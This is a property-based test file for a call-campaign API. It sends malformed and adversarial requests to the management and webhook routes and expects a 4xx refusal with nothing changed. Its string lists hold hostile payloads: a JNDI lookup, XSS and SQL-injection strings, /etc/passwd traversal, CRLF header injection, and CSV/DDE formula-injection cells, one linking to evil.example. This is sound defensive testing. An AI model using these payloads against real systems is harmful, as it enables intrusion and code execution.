/**
 * Hostile input at every route, property-based (fast-check): malformed and adversarial bodies,
 * headers, CSV and path ids. Every generated request is invalid by construction (bad credentials,
 * bad signature, or at least one thing no schema accepts), so each must get a 4xx in the contract's
 * error shape, and none may start a workflow or reach one.
 */
import { randomBytes } from 'node:crypto';
import type { Server } from 'node:http';
import fc from 'fast-check';
import request from 'supertest';
import { type ErrorCode, STATUS_OF_CODE } from '../../src/api/errors';
import { createApiServer } from '../../src/api/main';
import { isKnownRegion } from '../../src/api/numbers';
import { AGENT_ID_PATTERN } from '../../src/api/schemas';
import { SIGNATURE_HEADER, signWebhook, TIMESTAMP_HEADER } from '../../src/api/signature';
import { CAMPAIGN_ID_PATTERN, makeCallId, workflowIdFor } from '../../src/shared/callId';
import { AGENT_STATUSES } from '../../src/shared/types';
import { eventually } from '../support/eventually';
import {
  campaignExists,
  receivedSignals,
  testApi,
  type TestApi,
  uniqueCampaignId,
  workflowsOnQueue,
} from './helpers';

const API_KEY = `key-${randomBytes(12).toString('hex')}`;
const SECRET = `whsec-${randomBytes(12).toString('hex')}`;
/** Enough to cover every generator branch several times in a few seconds; HOSTILE_RUNS=2000 digs deeper. */
const NUM_RUNS = Number(process.env.HOSTILE_RUNS ?? 150);
const AUTH = { authorization: `Bearer ${API_KEY}` };
const VALID_NUMBER = '+8613800138000';
const TARGET_AGENT = `target-${randomBytes(4).toString('hex')}`;

let api: TestApi;
let server: Server;
/** Started on purpose, valid: bad-signature webhooks aim at it, and it must receive nothing. */
let targetId: string;
/** Every campaign id a hostile request named: none may exist afterwards. */
const namedIds = new Set<string>();

beforeAll(async () => {
  api = await testApi({
    API_KEY,
    WEBHOOK_SECRET: SECRET,
    TELEPHONY_BASE_URL: 'http://provider.invalid',
    // Limits off: the point here is what lies behind them (edge.test.ts covers the limits).
    RATE_LIMIT_PER_MIN: '0',
    WEBHOOK_RATE_LIMIT_PER_MIN: '0',
  });
  // The API's own server (its answer to requests Node refuses included), listening once for all requests.
  server = createApiServer(api.app);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  targetId = await startValid('target', [TARGET_AGENT]);
});

async function startValid(prefix: string, agentIds?: string[]): Promise<string> {
  const campaignId = uniqueCampaignId(prefix);
  await request(server)
    .post('/campaigns')
    .set(AUTH)
    .send({ campaignId, numbers: [VALID_NUMBER], ...(agentIds ? { agentIds } : {}) })
    .expect(201);
  return campaignId;
}

afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
});

interface HostileRequest {
  method: 'get' | 'post';
  path: string;
  headers: Record<string, string>;
  body?: string | Buffer;
}

function send(r: HostileRequest): Promise<request.Response> {
  // superagent would JSON-encode a Buffer sent as application/json: the identity serializer sends
  // exactly the bytes generated.
  // A request that reaches a campaign would wait for a worker this file does not run: fail it, and
  // let fast-check print it, instead of hanging until jest's timeout says nothing about which it was.
  const test = request(server)[r.method](r.path).set(r.headers).serialize((data: unknown) => data as string).timeout({ response: 10_000 });
  return r.body === undefined ? test : test.send(r.body);
}

function isErrorCode(code: unknown): code is ErrorCode {
  return typeof code === 'string' && Object.hasOwn(STATUS_OF_CODE, code);
}

/** 4xx, JSON, exactly `{error: {code, message, details}}`, and the code's own status. */
async function expectRefused(r: HostileRequest): Promise<void> {
  const res = await send(r);
  if (res.status < 400 || res.status >= 500) {
    throw new Error(`not a 4xx: ${r.method.toUpperCase()} ${r.path.slice(0, 120)} → ${res.status} ${res.text.slice(0, 200)}`);
  }
  expect(res.headers['content-type']).toMatch(/^application\/json/);
  expect(Object.keys(res.body as object)).toEqual(['error']);
  const { code, message, details } = (res.body as { error: Record<string, unknown> }).error;
  expect(Object.keys((res.body as { error: object }).error).sort()).toEqual(['code', 'details', 'message']);
  expect(code).toMatch(/^[a-z_]+$/);
  expect(typeof message).toBe('string');
  expect(details === null || typeof details === 'object').toBe(true);
  expect(isErrorCode(code) && STATUS_OF_CODE[code]).toBe(res.status);
}

async function check<T>(arbitrary: fc.Arbitrary<T>, toRequest: (value: T) => HostileRequest): Promise<void> {
  await fc.assert(
    fc.asyncProperty(arbitrary, (value) => expectRefused(toRequest(value))),
    // Shrinking would resend the failing request many times, each up to the response timeout.
    { numRuns: NUM_RUNS, endOnFailure: true },
  );
}

// ---------------------------------------------------------------------------------------------
// Building blocks

const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', '__defineGetter__', 'toString', 'hasOwnProperty'];
const HUGE = 'x'.repeat(100_000);
const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  '\uFEFF',
  '\u202Eevil',
  'null',
  '../../etc/passwd',
  '%00',
  '${jndi:ldap://evil/a}',
  '<script>alert(1)</script>',
  "' OR '1'='1",
  "=cmd|' /C calc'!A0",
  HUGE,
];

const controlChars = fc.string({
  unit: fc.integer({ min: 0, max: 31 }).map((c) => String.fromCharCode(c)),
  minLength: 1,
  maxLength: 20,
});
const hostileString = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  controlChars,
  fc.constantFrom(...NASTY_STRINGS),
);
const notAString = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue(), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.jsonValue(), { maxKeys: 3 }),
);
/** A run of 9+ digits: a phone number, which must not reach a workflow id, memo or search attribute. */
const digitRun = fc.stringMatching(/^\d{9,15}$/);
/** Header values Node will send: visible ASCII and latin-1, no control characters. */
const headerChar = fc
  .integer({ min: 0x20, max: 0xff })
  .filter((c) => c < 0x7f || c > 0x9f)
  .map((c) => String.fromCharCode(c));
const headerValue = fc.oneof(fc.string({ unit: headerChar, maxLength: 60 }), fc.constant('A'.repeat(8000)));

/** JSON text of an object with own keys as given, `__proto__` included (an object literal could not). */
function jsonObjectText(entries: Array<[string, unknown]>): string {
  return `{${entries.map(([key, value]) => `${JSON.stringify(key)}:${rawJson(value)}`).join(',')}}`;
}
/** Values already rendered by jsonObjectText are passed through as they are. */
class RawJson {
  constructor(readonly text: string) {}
}
function rawJson(value: unknown): string {
  return value instanceof RawJson ? value.text : (JSON.stringify(value) ?? 'null');
}

function freshId(prefix: string): string {
  const id = uniqueCampaignId(prefix);
  namedIds.add(id);
  return id;
}

// ---------------------------------------------------------------------------------------------
// Management routes: credentials

const badAuthorization: fc.Arbitrary<Record<string, string>> = fc.oneof(
  fc.constant({}),
  fc
    .constantFrom(
      `Bearer ${API_KEY}x`,
      `Bearer ${API_KEY.slice(0, -1)}`,
      `Bearer ${API_KEY.toUpperCase()}`,
      API_KEY,
      `Basic ${Buffer.from(`user:${API_KEY}`).toString('base64')}`,
      'Bearer',
      `Bearer ${API_KEY} extra`,
      `Bearer x, Bearer ${API_KEY}`,
      `Bearer ${API_KEY}%00`,
      `Bearer ${'A'.repeat(8000)}`,
      `Token ${API_KEY}`,
    )
    .map((authorization) => ({ authorization })),
  headerValue.map((authorization) => ({ authorization })),
  headerValue.map((token) => ({ authorization: `Bearer ${token}` })),
);

const anyBody = fc.oneof(
  fc.constant(undefined),
  fc.jsonValue().map((value) => JSON.stringify(value)),
  hostileString,
  fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes)),
);
const anyContentType = fc.constantFrom('application/json', 'text/csv', 'text/plain', 'application/octet-stream');

const managementRoute = fc.constantFrom(
  { method: 'post' as const, path: '/campaigns' },
  { method: 'get' as const, path: '/campaigns' },
  { method: 'get' as const, path: '/campaigns/some-id' },
  { method: 'post' as const, path: '/campaigns/some-id/pause' },
  { method: 'post' as const, path: '/campaigns/some-id/resume' },
  { method: 'post' as const, path: '/campaigns/some-id/cancel' },
  { method: 'post' as const, path: '/campaigns/some-id/numbers' },
  { method: 'get' as const, path: '/campaigns/some-id/calls' },
  { method: 'get' as const, path: '/campaigns/some-id/results.csv' },
);

// ---------------------------------------------------------------------------------------------
// POST /campaigns, JSON

const badCampaignId = fc.oneof(
  notAString,
  hostileString.filter((s) => !CAMPAIGN_ID_PATTERN.test(s)),
  fc.constant('x'.repeat(65)),
  fc.tuple(fc.stringMatching(/^[A-Za-z_-]{0,8}$/), digitRun).map(([head, digits]) => `${head}${digits}`),
);
const badName = fc.oneof(
  notAString,
  fc.constantFrom('', '   ', '\t\n', '\uFEFF', 'x'.repeat(201), HUGE),
  digitRun.map((digits) => `Call back ${digits} please`),
);
/** Strings without a digit or letter in any script: no phone number can hide in them. */
const noDigitString = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 30 }).filter((s) => !/[\p{Nd}\p{L}\p{No}]/u.test(s)),
  controlChars,
);
const badNumbers = fc.oneof(
  notAString.filter((v) => !Array.isArray(v)),
  hostileString,
  fc.array(noDigitString, { maxLength: 5 }),
  fc.tuple(fc.array(notAString, { minLength: 1, maxLength: 3 })).map(([junk]) => [VALID_NUMBER, ...junk]),
  fc.constant([`${VALID_NUMBER}${'0'.repeat(60)}`, HUGE]),
  fc.constant(Array.from({ length: 20_001 }, () => 'x')),
);
const badAgentIds = fc.oneof(
  notAString.filter((v) => !Array.isArray(v)),
  fc.constant([]),
  fc.constant(['a1', 'a1']),
  fc.array(hostileString.filter((s) => !AGENT_ID_PATTERN.test(s)), { minLength: 1, maxLength: 3 }),
  digitRun.map((digits) => ['a1', `agent-${digits}`]),
  fc.constant(Array.from({ length: 10_001 }, (_, i) => `a${i}`)),
);
const badSettings = fc.oneof(
  notAString.filter((v) => v === null || typeof v !== 'object' || Array.isArray(v)).map((v) => new RawJson(rawJson(v))),
  fc
    .oneof(
      fc.record({ key: fc.constantFrom(...PROTO_KEYS, 'unknown', 'maxattempts'), value: fc.jsonValue() }),
      fc.record({ key: fc.constant('maxAttempts'), value: fc.constantFrom<unknown>(0, 11, 1.5, -1, '1', null, HUGE) }),
      fc.record({ key: fc.constant('retryDelaySec'), value: fc.constantFrom<unknown>(-1, 86_401, 0.5, 'x', null) }),
      fc.record({ key: fc.constant('maxConcurrentCalls'), value: fc.constantFrom<unknown>(0, -1, 1.5, 'x', '') }),
      fc.record({
        key: fc.constant('defaultRegion'),
        // Any two letters might be a region: everything else is not.
        value: fc.oneof(
          fc.constantFrom<unknown>('XX', 'cn1', '', 1, null),
          hostileString.filter((r) => r.length !== 2),
        ),
      }),
    )
    .map(({ key, value }) => new RawJson(jsonObjectText([[key, value]]))),
);
const KNOWN_FIELDS = new Set(['campaignId', 'name', 'numbers', 'agentIds', 'settings']);
/** A valid campaign with exactly one defect. */
const defectiveCampaign = fc
  .oneof(
    fc.record({ key: fc.constant('campaignId'), value: badCampaignId }),
    fc.record({ key: fc.constant('name'), value: badName }),
    fc.record({ key: fc.constant('numbers'), value: badNumbers }),
    fc.record({ key: fc.constant('agentIds'), value: badAgentIds }),
    fc.record({ key: fc.constant('settings'), value: badSettings }),
    fc.record({
      key: fc.oneof(fc.constantFrom(...PROTO_KEYS), fc.string({ maxLength: 12 }).filter((k) => !KNOWN_FIELDS.has(k))),
      value: fc.oneof(fc.jsonValue(), fc.constant(new RawJson('{"polluted":true}'))),
    }),
  )
  .map(({ key, value }) => {
    const entries: Array<[string, unknown]> = [
      ['campaignId', freshId('hostile')],
      ['numbers', [VALID_NUMBER]],
    ];
    const at = entries.findIndex(([k]) => k === key);
    if (at >= 0) entries[at] = [key, value];
    else entries.push([key, value]);
    if (key === 'campaignId' && typeof value === 'string') namedIds.add(value);
    return jsonObjectText(entries);
  });

const jsonCampaignBody = fc.oneof(
  { weight: 4, arbitrary: defectiveCampaign },
  { weight: 1, arbitrary: fc.jsonValue().map((v) => JSON.stringify(v)) },
  { weight: 1, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.constantFrom('{', '{"numbers":', '[1,', '{"numbers":["+86138"]}x', '\uFEFF{}', 'nul') },
);

// ---------------------------------------------------------------------------------------------
// POST /campaigns, CSV

function csvCell(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}
function csvText(rows: string[][]): string {
  return rows.map((row) => row.map(csvCell).join(',')).join('\n');
}
const INJECTIONS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=1+1',
  '\t=1+1',
  '=DDE("cmd";"/C calc";"!A0")',
];
const headerName = fc.oneof(fc.string({ unit: 'grapheme', maxLength: 12 }), fc.constantFrom(...PROTO_KEYS));

const defectiveCsv: fc.Arbitrary<string | Buffer> = fc.oneof(
  // No phone column.
  fc
    .array(headerName.filter((name) => !/phone/i.test(name)), { minLength: 1, maxLength: 4 })
    .map((header) => csvText([header, header.map(() => VALID_NUMBER)])),
  // An opening quote that is never closed.
  fc.string({ maxLength: 30 }).filter((s) => !s.includes('"')).map((s) => `phone\n"${s}\n${VALID_NUMBER}\n`),
  // Formula-injection cells where the numbers should be, besides hostile contact data.
  fc
    .array(fc.tuple(fc.constantFrom(...INJECTIONS), hostileString), { minLength: 1, maxLength: 5 })
    .map((rows) => csvText([['phone', 'note'], ...rows])),
  // Binary bytes, with no digit anywhere.
  fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes.filter((b) => b < 0x30 || b > 0x39))),
  fc.constantFrom(
    '',
    '\uFEFF',
    '\n\n\n',
    'phone\n',
    'phone,\n,\n',
    `phone,phone\n${VALID_NUMBER},${VALID_NUMBER}\n`,
    `phone,name,name\n${VALID_NUMBER},a,b\n`,
    `phone\n${Array.from({ length: 20_001 }, () => '1').join('\n')}\n`,
  ),
);

function queryString(entries: Array<[string, string]>): string {
  return entries.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join('&');
}
/** Valid CSV, with one defective query parameter. */
const CSV_QUERY_FIELDS = [
  'campaignId',
  'name',
  'agentIds',
  'defaultRegion',
  'maxAttempts',
  'retryDelaySec',
  'maxConcurrentCalls',
];
const unknownQueryKey = fc.oneof(
  fc.constantFrom(...PROTO_KEYS, 'unknown', 'numbers', 'settings'),
  fc.string({ minLength: 1, maxLength: 8 }).filter((k) => !CSV_QUERY_FIELDS.includes(k)),
);
const defectiveCsvQuery: fc.Arbitrary<string> = fc.oneof(
  fc.tuple(unknownQueryKey, fc.string({ maxLength: 10 })),
  fc.tuple(fc.constant('campaignId'), badCampaignId.filter((v): v is string => typeof v === 'string')),
  fc.tuple(fc.constant('name'), fc.oneof(fc.constantFrom('', '  ', 'x'.repeat(201)), digitRun.map((d) => `list ${d}`))),
  fc.tuple(fc.constant('defaultRegion'), fc.constantFrom('XX', 'cn1', '', '__proto__')),
  fc.tuple(fc.constant('maxAttempts'), fc.constantFrom('0', '11', '1.5', 'abc', '', '1e1')),
  fc.tuple(fc.constant('retryDelaySec'), fc.constantFrom('-1', '86401', 'x')),
  fc.tuple(fc.constant('maxConcurrentCalls'), fc.constantFrom('0', '-1', '1.5', 'undefined')),
  fc.tuple(
    fc.constant('agentIds'),
    fc.oneof(fc.constantFrom('', ',', 'a1,a1', 'a 1', "a'1"), digitRun.map((d) => `a1,${d}`)),
  ),
).map(([key, value]) => {
  if (key === 'campaignId') namedIds.add(value);
  return queryString([
    ['campaignId', freshId('hostile-csv')],
    [key, value],
  ]);
});

// ---------------------------------------------------------------------------------------------
// Path ids

const badSegment = fc.oneof(
  fc.constantFrom(
    '..',
    '.',
    '...',
    '..%2F..%2Fetc%2Fpasswd',
    '%2e%2e',
    '%2e%2e%2f',
    '%00',
    'a%00b',
    '%',
    '%zz',
    '%E0%A4%A',
    '%C0%AE%C0%AE',
    '%FF',
    '..;',
    '%0d%0aSet-Cookie:x',
    'x'.repeat(65),
    'x'.repeat(4000),
  ),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }).map(encodeURIComponent),
  fc.stringMatching(/^[A-Za-z0-9_-]{65,300}$/),
  fc.stringMatching(/^[A-Za-z0-9_-]{1,64}$/).map((id) => `${id}`),
  fc.tuple(fc.stringMatching(/^[a-z]{1,5}-$/), digitRun).map(([head, digits]) => `${head}${digits}`),
);

// ---------------------------------------------------------------------------------------------
// Webhooks

const nowSec = (): number => Math.floor(Date.now() / 1000);
type SignatureDefect = (raw: Buffer) => Record<string, string>;
const sign = (raw: Buffer): Record<string, string> => signWebhook(SECRET, raw);
const badSignature: fc.Arbitrary<SignatureDefect> = fc.oneof(
  fc.constant<SignatureDefect>(() => ({})),
  fc.constant<SignatureDefect>((raw) => ({ [TIMESTAMP_HEADER]: sign(raw)[TIMESTAMP_HEADER]! })),
  fc.constant<SignatureDefect>((raw) => ({ [SIGNATURE_HEADER]: sign(raw)[SIGNATURE_HEADER]! })),
  // Correctly signed, but stale or from the future: the replay window.
  fc
    .tuple(fc.integer({ min: 301, max: 1_000_000_000 }), fc.boolean())
    .map(([skew, past]): SignatureDefect => (raw) => signWebhook(SECRET, raw, nowSec() + (past ? -skew : skew))),
  fc.constant<SignatureDefect>((raw) => signWebhook(SECRET, raw, Date.now())), // milliseconds, not seconds
  headerValue.map((value): SignatureDefect => (raw) => ({ ...sign(raw), [SIGNATURE_HEADER]: value })),
  headerValue.map((value): SignatureDefect => (raw) => ({ ...sign(raw), [TIMESTAMP_HEADER]: value })),
  fc
    .stringMatching(/^[0-9a-f]{64}$/)
    .map((hex): SignatureDefect => (raw) => ({ ...sign(raw), [SIGNATURE_HEADER]: `sha256=${hex}` })),
  fc.constant<SignatureDefect>((raw) => signWebhook(`${SECRET}x`, raw)),
  fc.constant<SignatureDefect>((raw) => signWebhook(SECRET, Buffer.concat([raw, Buffer.from(' ')]))),
  fc.constant<SignatureDefect>((raw) => {
    const headers = sign(raw);
    return { ...headers, [TIMESTAMP_HEADER]: String(Number(headers[TIMESTAMP_HEADER]) - 1) };
  }),
  fc.constant<SignatureDefect>((raw) => {
    const headers = sign(raw);
    return { ...headers, [SIGNATURE_HEADER]: `${headers[SIGNATURE_HEADER]}, sha256=${'0'.repeat(64)}` };
  }),
  fc.constant<SignatureDefect>((raw) => {
    const headers = sign(raw);
    return { ...headers, [SIGNATURE_HEADER]: headers[SIGNATURE_HEADER]!.replace('sha256=', 'sha1=') };
  }),
);

const webhookContentType = fc.constantFrom(
  'application/json',
  'text/plain',
  'application/x-www-form-urlencoded',
  'application/json; charset=klingon',
);
const ISO_NOW = (): string => new Date().toISOString();
const badTimestamp = fc.oneof(
  notAString,
  fc.constantFrom('', 'yesterday', '2024-13-45T00:00:00Z', '1717000000', '2024-06-01'),
  hostileString,
);
/** Statuses neither report accepts (a valid call status for an unknown campaign would only be 404). */
const badStatus = fc
  .oneof(notAString, hostileString, fc.constantFrom('COMPLETED', 'answered ', 'Idle'))
  .filter((s) => typeof s !== 'string' || !(AGENT_STATUSES as readonly string[]).includes(s));

/** A call report with one defect, or only extra fields: either way for a campaign that does not exist. */
const defectiveCallReport = fc
  .oneof(
    fc.record({
      key: fc.constant('callId'),
      value: fc.oneof(notAString, fc.constantFrom('', 'x'.repeat(257), HUGE), hostileString),
    }),
    fc.record({ key: fc.constant('status'), value: badStatus }),
    fc.record({ key: fc.constant('durationSec'), value: fc.constantFrom<unknown>(-1, '42', {}, [], true, -0.5) }),
    fc.record({ key: fc.constant('timestamp'), value: badTimestamp }),
    fc.record({ key: fc.constantFrom(...PROTO_KEYS), value: fc.constant(new RawJson('{"polluted":true}')) }),
  )
  .map(({ key, value }) => {
    const entries: Array<[string, unknown]> = [
      ['callId', makeCallId({ campaignId: freshId('hostile-call'), numberIndex: 0, attempt: 1 })],
      ['status', 'completed'],
      ['timestamp', ISO_NOW()],
    ];
    const at = entries.findIndex(([k]) => k === key);
    if (at >= 0) entries[at] = [key, value];
    else entries.push([key, value]);
    return jsonObjectText(entries);
  });

/** An agent report with one defect (a valid one would reach every campaign open to any agent). */
const defectiveAgentReport = fc
  .oneof(
    fc.record({
      key: fc.constant('agentId'),
      value: fc.oneof(notAString, hostileString.filter((s) => !AGENT_ID_PATTERN.test(s))),
    }),
    fc.record({ key: fc.constant('status'), value: badStatus }),
    fc.record({ key: fc.constant('timestamp'), value: badTimestamp }),
  )
  .chain(({ key, value }) =>
    fc.constantFrom(...PROTO_KEYS, 'extra').map((extraKey) => {
      const entries: Array<[string, unknown]> = [
        ['agentId', TARGET_AGENT],
        ['status', 'idle'],
        ['timestamp', ISO_NOW()],
      ];
      entries[entries.findIndex(([k]) => k === key)] = [key, value];
      entries.push([extraKey, new RawJson('{"polluted":true}')]);
      return jsonObjectText(entries);
    }),
  );

const rawBody = (body: string | Buffer): Buffer => (typeof body === 'string' ? Buffer.from(body) : body);

// ---------------------------------------------------------------------------------------------

describe('management routes', () => {
  it('401 for every route with missing, wrong, or malformed credentials, whatever the request', async () => {
    await check(
      fc.record({ route: managementRoute, auth: badAuthorization, body: anyBody, contentType: anyContentType }),
      ({ route, auth, body, contentType }) => ({
        ...route,
        headers: { ...auth, 'content-type': contentType },
        ...(route.method === 'post' && body !== undefined ? { body } : {}),
      }),
    );
  });

  it('POST /campaigns (JSON): random values, wrong types, huge strings, prototype keys, one bad field', async () => {
    await check(jsonCampaignBody, (body) => ({
      method: 'post',
      path: '/campaigns',
      headers: { ...AUTH, 'content-type': 'application/json' },
      body,
    }));
  });

  it('POST /campaigns (CSV): no phone column, unbalanced quotes, injection cells, binary, bad query', async () => {
    await check(
      fc.oneof(
        defectiveCsv.map((body) => ({ body, query: queryString([['campaignId', freshId('hostile-csv')]]) })),
        defectiveCsvQuery.map((query) => ({ body: `phone\n${VALID_NUMBER}\n`, query })),
      ),
      ({ body, query }) => ({
        method: 'post',
        path: `/campaigns?${query}`,
        headers: { ...AUTH, 'content-type': 'text/csv' },
        body,
      }),
    );
  });

  it('POST /campaigns: wrong or unparseable content types and encodings', async () => {
    const contentType = fc.constantFrom(
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=xyz',
      'application/xml',
      'application/octet-stream',
      'text/html',
      'application/json-patch+json',
      'text/csvx',
      'application/json, text/csv',
      'json',
      'application/json; charset=latin1',
      'application/json; charset=klingon',
      'text/csv; charset=klingon',
    );
    await check(
      fc.record({ contentType, body: anyBody }),
      ({ contentType: type, body }) => ({
        method: 'post',
        path: '/campaigns',
        headers: { ...AUTH, 'content-type': type },
        ...(body === undefined ? {} : { body }),
      }),
    );
    await check(
      fc.record({
        encoding: fc.constantFrom('gzip', 'deflate', 'br', 'compress', 'x-evil', 'gzip, gzip'),
        type: fc.constantFrom('application/json', 'text/csv'),
        body: fc.oneof(hostileString.filter((s) => s !== ''), fc.constant(`{"numbers":["${VALID_NUMBER}"]}`)),
      }),
      ({ encoding, type, body }) => ({
        method: 'post',
        path: '/campaigns',
        headers: { ...AUTH, 'content-type': type, 'content-encoding': encoding },
        body,
      }),
    );
  });

  it('GET /campaigns/:id[/calls|/results.csv], POST …/pause|resume|cancel|numbers: traversal, NUL, bad percent-encoding, long ids', async () => {
    const reads = ['', '/calls', '/results.csv'];
    await check(
      fc.record({
        segment: badSegment,
        action: fc.constantFrom(...reads, '/pause', '/resume', '/cancel', '/numbers'),
        body: anyBody,
      }),
      ({ segment, action, body }) => ({
        method: reads.includes(action) ? 'get' : 'post',
        path: `/campaigns/${segment}${action}`,
        headers: { ...AUTH, 'content-type': 'application/json' },
        ...(action !== '' && body !== undefined ? { body } : {}),
      }),
    );
  });

  it('POST /campaigns/:id/numbers on a live campaign: bad JSON and CSV bodies, bad region, unknown fields', async () => {
    const body = fc.oneof(
      badNumbers.map((numbers) => JSON.stringify({ numbers })),
      fc
        .oneof(hostileString, fc.constantFrom('XX', 'cn1', '__proto__'))
        // A string that happens to be a region ('ro') makes a valid request, which would reach the campaign.
        .filter((region) => !isKnownRegion(region.toUpperCase()))
        .map((defaultRegion) => JSON.stringify({ numbers: [VALID_NUMBER], defaultRegion })),
      fc.constantFrom(...PROTO_KEYS, 'name', 'agentIds').map((key) => `{"numbers":["${VALID_NUMBER}"],"${key}":1}`),
      jsonCampaignBody.filter((b) => typeof b === 'string' && !b.includes('"numbers":["+')),
    );
    await check(body, (b) => ({
      method: 'post',
      path: `/campaigns/${targetId}/numbers`,
      headers: { ...AUTH, 'content-type': 'application/json' },
      body: b,
    }));
    await check(
      fc.oneof(
        defectiveCsv.map((csv) => ({ csv, query: '' })),
        fc.constantFrom('defaultRegion=XX', 'campaignId=x', 'maxAttempts=2', 'x=1').map((query) => ({ csv: `phone\n${VALID_NUMBER}\n`, query })),
      ),
      ({ csv, query }) => ({
        method: 'post',
        path: `/campaigns/${targetId}/numbers?${query}`,
        headers: { ...AUTH, 'content-type': 'text/csv' },
        body: csv,
      }),
    );
  });

  it('GET /campaigns/:id/calls and results.csv on a live campaign: bad filters, cursors, limits, unknown parameters', async () => {
    // Every value is made invalid for its key (the x), so no request reaches the campaign.
    const query = fc.array(fc.tuple(fc.constantFrom('status', 'outcome', 'cursor', 'limit', 'other'), hostileString), {
      minLength: 1,
      maxLength: 3,
    });
    await check(fc.record({ query, path: fc.constantFrom('calls', 'results.csv') }), ({ query: q, path }) => ({
      method: 'get',
      path: `/campaigns/${targetId}/${path}?${queryString(q.map(([k, v]) => [k, `x${v}`]))}`,
      headers: AUTH,
    }));
  });

  it('GET /campaigns with bad credentials and any query', async () => {
    await check(
      fc.record({ auth: badAuthorization, query: fc.array(fc.tuple(hostileString, hostileString), { maxLength: 3 }) }),
      ({ auth, query }) => ({ method: 'get', path: `/campaigns?${queryString(query)}`, headers: auth }),
    );
  });
});

describe('webhooks', () => {
  const paths = ['/webhooks/call-status', '/webhooks/agent-status'] as const;

  it('401 for bad, missing, stale or future signatures, even on a valid report for a live campaign', async () => {
    const validBody = fc.oneof(
      fc.constant(() => {
        const callId = makeCallId({ campaignId: targetId, numberIndex: 0, attempt: 1 });
        return JSON.stringify({ callId, status: 'completed', timestamp: ISO_NOW() });
      }),
      fc.constant(() => JSON.stringify({ agentId: TARGET_AGENT, status: 'busy', timestamp: ISO_NOW() })),
    );
    await check(
      fc.record({
        path: fc.constantFrom(...paths),
        body: fc.oneof(validBody.map((make) => make()), anyBody.map((b) => b ?? '')),
        defect: badSignature,
        contentType: webhookContentType,
      }),
      ({ path, body, defect, contentType }) => ({
        method: 'post',
        path,
        headers: { 'content-type': contentType, ...defect(rawBody(body)) },
        body,
      }),
    );
  });

  it.each([
    ['/webhooks/call-status', defectiveCallReport],
    ['/webhooks/agent-status', defectiveAgentReport],
  ])('POST %s, validly signed: malformed JSON, wrong types, prototype keys', async (path, defective) => {
    await check(
      fc.record({
        body: fc.oneof(
          { weight: 3, arbitrary: defective },
          { weight: 1, arbitrary: fc.jsonValue().map((v) => JSON.stringify(v)) },
          { weight: 1, arbitrary: fc.uint8Array({ maxLength: 200 }).map((b) => Buffer.from(b)) },
          { weight: 1, arbitrary: fc.constant('x'.repeat(65 * 1024)) },
        ),
        contentType: webhookContentType,
      }),
      ({ body, contentType }) => ({
        method: 'post',
        path,
        headers: { 'content-type': contentType, ...sign(rawBody(body)) },
        body,
      }),
    );
  });

  it('401 from the Twilio callback route whatever is sent: this API has no Twilio provider', async () => {
    const callId = makeCallId({ campaignId: targetId, numberIndex: 0, attempt: 1 });
    await check(
      fc.record({
        body: fc.oneof(fc.constant(`CallStatus=completed&CallSid=CA${'0'.repeat(32)}`), anyBody.map((b) => b ?? '')),
        signature: fc.oneof(fc.constant(undefined), headerValue, fc.base64String({ minLength: 28, maxLength: 28 })),
        contentType: fc.constantFrom('application/x-www-form-urlencoded', 'application/json', 'text/plain'),
      }),
      ({ body, signature, contentType }) => ({
        method: 'post',
        path: `/webhooks/twilio/call-status?callId=${callId}`,
        headers: { 'content-type': contentType, ...(signature === undefined ? {} : { 'x-twilio-signature': signature }) },
        body,
      }),
    );
  });
});

// Last in the file: what all of the above left behind.
describe('changes nothing', () => {
  /** Started by the first check below, after every hostile request. */
  let sentinelId: string;

  it('polluted no prototype', () => {
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).toEqual({});
  });

  it('started no workflow on the queue but the two valid ones, and none under any id a request named', async () => {
    // Visibility is eventually consistent: a sentinel started after every hostile request, once it
    // shows, vouches that anything started before it would show too.
    sentinelId = await startValid('sentinel');
    const ids = await eventually(
      () => workflowsOnQueue(api.client, api.config.temporal.taskQueue),
      (found) => found.includes(workflowIdFor(sentinelId)),
    );
    expect(ids).toEqual([workflowIdFor(sentinelId), workflowIdFor(targetId)].sort());
    // Ids outside the pattern (some 100 KB long) are not even valid Temporal workflow ids: the queue
    // check above covers them.
    const candidates = [...namedIds].filter((id) => CAMPAIGN_ID_PATTERN.test(id));
    const existing: string[] = [];
    for (let i = 0; i < candidates.length; i += 100) {
      const chunk = candidates.slice(i, i + 100);
      const found = await Promise.all(chunk.map((id) => campaignExists(api.client, id)));
      existing.push(...chunk.filter((_, j) => found[j]));
    }
    expect(existing).toEqual([]);
    expect(namedIds.size).toBeGreaterThan(NUM_RUNS);
  });

  it('imported nothing into the database but the two valid campaigns: no other campaign row, no other contact', async () => {
    const { rows: campaigns } = await api.pool.query<{ campaign_id: string }>('SELECT campaign_id FROM campaign ORDER BY campaign_id');
    const { rows: owners } = await api.pool.query<{ campaign_id: string }>('SELECT DISTINCT campaign_id FROM contact ORDER BY campaign_id');
    const valid = [sentinelId, targetId].sort();
    expect(campaigns.map((r) => r.campaign_id)).toEqual(valid);
    expect(owners.map((r) => r.campaign_id)).toEqual(valid);
    const { rows: attempts } = await api.pool.query('SELECT call_id FROM attempt');
    expect(attempts).toEqual([]);
  });

  it('delivered nothing to the target of the badly signed webhooks', async () => {
    expect(await receivedSignals(api.client, workflowIdFor(targetId))).toEqual([]);
  });
});
